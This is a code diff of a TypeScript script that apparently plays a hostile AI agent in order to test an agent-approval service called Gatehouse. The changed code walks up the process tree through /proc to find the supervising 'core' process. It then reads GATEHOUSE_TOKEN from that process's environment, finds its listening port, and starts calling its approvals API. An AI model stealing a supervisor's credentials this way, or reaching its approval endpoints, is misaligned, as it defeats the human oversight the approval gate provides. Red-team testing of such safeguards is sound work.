@@ -52,9 +52,30 @@ const save = (): void => {
   renameSync(`${reportFile}.partial`, reportFile);
 };
 
-function parentEnviron(): Record<string, string> {
+/** A process's parent, from /proc/<pid>/stat (past the command name), or null. */
+function parentOf(pid: number): number | null {
   try {
-    const text = readFileSync(`/proc/${process.ppid}/environ`, 'utf8');
+    const stat = readFileSync(`/proc/${pid}/stat`, 'utf8');
+    const ppid = Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
+    return ppid > 1 ? ppid : null;
+  } catch {
+    return null;
+  }
+}
+
+/**
+ * The core: the nearest ancestor that listens on a TCP port. Its parent is the agent launcher,
+ * which listens on nothing; the core started that.
+ */
+function findCore(): number {
+  for (let pid: number | null = process.ppid, hops = 0; pid && hops < 4; pid = parentOf(pid), hops++)
+    if (listeningPort(pid) !== null) return pid;
+  return process.ppid;
+}
+
+function parentEnviron(core: number): Record<string, string> {
+  try {
+    const text = readFileSync(`/proc/${core}/environ`, 'utf8');
     report.parentEnvironRead = true;
     return Object.fromEntries(
       text
@@ -67,13 +88,13 @@ function parentEnviron(): Record<string, string> {
   }
 }
 
-/** The TCP port the parent listens on: its socket inodes matched against /proc/net/tcp{,6}. */
-function parentListeningPort(): number | null {
+/** The TCP port a process listens on: its socket inodes matched against /proc/net/tcp{,6}. */
+function listeningPort(pid: number): number | null {
   const inodes = new Set<string>();
   try {
-    for (const fd of readdirSync(`/proc/${process.ppid}/fd`)) {
+    for (const fd of readdirSync(`/proc/${pid}/fd`)) {
       try {
-        const match = /^socket:\[(\d+)\]$/.exec(readlinkSync(`/proc/${process.ppid}/fd/${fd}`));
+        const match = /^socket:\[(\d+)\]$/.exec(readlinkSync(`/proc/${pid}/fd/${fd}`));
         if (match) inodes.add(match[1]!);
       } catch {
         // closed meanwhile
@@ -140,13 +161,14 @@ async function call(
 }
 
 async function attack(): Promise<void> {
-  const env = { ...parentEnviron(), ...process.env };
+  const core = findCore();
+  const env = { ...parentEnviron(core), ...process.env };
   const token = env['GATEHOUSE_TOKEN'] ?? '';
   report.tokenFound = token !== '';
   report.homeFound = env['GATEHOUSE_HOME'] ?? null;
   const home = report.homeFound ?? process.env['HOSTILE_AGENT_GUESS_HOME'];
   if (home) readHome(home);
-  report.port = parentListeningPort();
+  report.port = listeningPort(core);
   const port = report.port ?? Number(process.env['HOSTILE_AGENT_GUESS_PORT'] ?? 0);
   if (!port) return;
   const approvals = (await call('list approvals', port, token, 'GET', '/api/approvals')) as
